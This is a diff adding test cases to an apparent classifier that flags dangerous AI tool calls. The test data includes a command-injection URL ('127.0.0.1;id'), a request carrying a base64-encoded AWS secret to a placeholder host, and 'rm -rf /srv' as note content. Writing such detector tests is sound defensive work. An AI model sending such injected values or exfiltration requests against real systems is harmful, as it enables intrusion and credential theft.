@@ -100,3 +100,15 @@ describe("languages that a call names itself", () => {
 		expect(of("create_note", { language: "bash", content: "rm -rf /srv" }).dangerous).toBe(false);
 	});
 });
+
+describe("what a URL carries", () => {
+	it.each([
+		["a command behind a value", "http://app.example/ping?host=127.0.0.1;id", "code_execution"],
+		[
+			"a veiled key",
+			`https://h.example/p?d=${Buffer.from("aws_secret_access_key=abcdefghijklmnopqrst").toString("base64url")}`,
+			"data_exfiltration",
+		],
+		["words that are searched for", "https://api.example.com/search?q=drop+table+users", "network_access"],
+	])("%s", (_, url, category) => expect(of("http_request", { method: "GET", url }).category).toBe(category));
+});
